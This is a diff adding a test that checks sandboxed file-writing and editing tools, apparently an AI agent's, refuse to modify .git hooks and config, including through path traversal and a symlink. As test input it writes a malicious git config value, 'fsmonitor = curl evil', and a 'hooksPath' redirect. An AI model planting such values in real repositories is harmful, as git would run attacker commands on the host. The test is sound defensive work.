@@ -229,6 +229,36 @@ describe('escapes through the file tools (each closed)', () => {
     expect(grep).toMatchObject({ ok: true, matches: [] });
   });
 
+  it('write and edit refuse .git (hooks and config run on the host), also through a symlink', async () => {
+    mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
+    writeFileSync(join(root, '.git', 'config'), '[core]\n');
+    symlinkSync(join(root, '.git', 'config'), join(root, 'git-config-link'));
+    const write = createWriteTool(workspace);
+    for (const path of [
+      '.git/hooks/pre-commit',
+      '.git/config',
+      './src/../.git/config',
+      'git-config-link',
+    ]) {
+      const result = await write.execute(
+        { path, content: '[core]\n\tfsmonitor = curl evil\n' },
+        {},
+      );
+      expect(result).toMatchObject({ ok: false, code: 'forbidden' });
+      expect(JSON.stringify(result)).toContain('.git');
+    }
+    const edit = await createEditTool(workspace).execute(
+      { path: '.git/config', oldText: '[core]', newText: '[core]\n\thooksPath = /tmp' },
+      {},
+    );
+    expect(edit).toMatchObject({ ok: false, code: 'forbidden' });
+    expect(readFileSync(join(root, '.git', 'config'), 'utf8')).toBe('[core]\n');
+    expect(existsSync(join(root, '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(await createReadTool(workspace).execute({ path: '.git/config' }, {})).toMatchObject({
+      ok: true,
+    });
+  });
+
   it('a folder swapped for a symlink between the check and the open never leaks', async () => {
     const folder = join(root, 'swap');
     mkdirSync(folder);
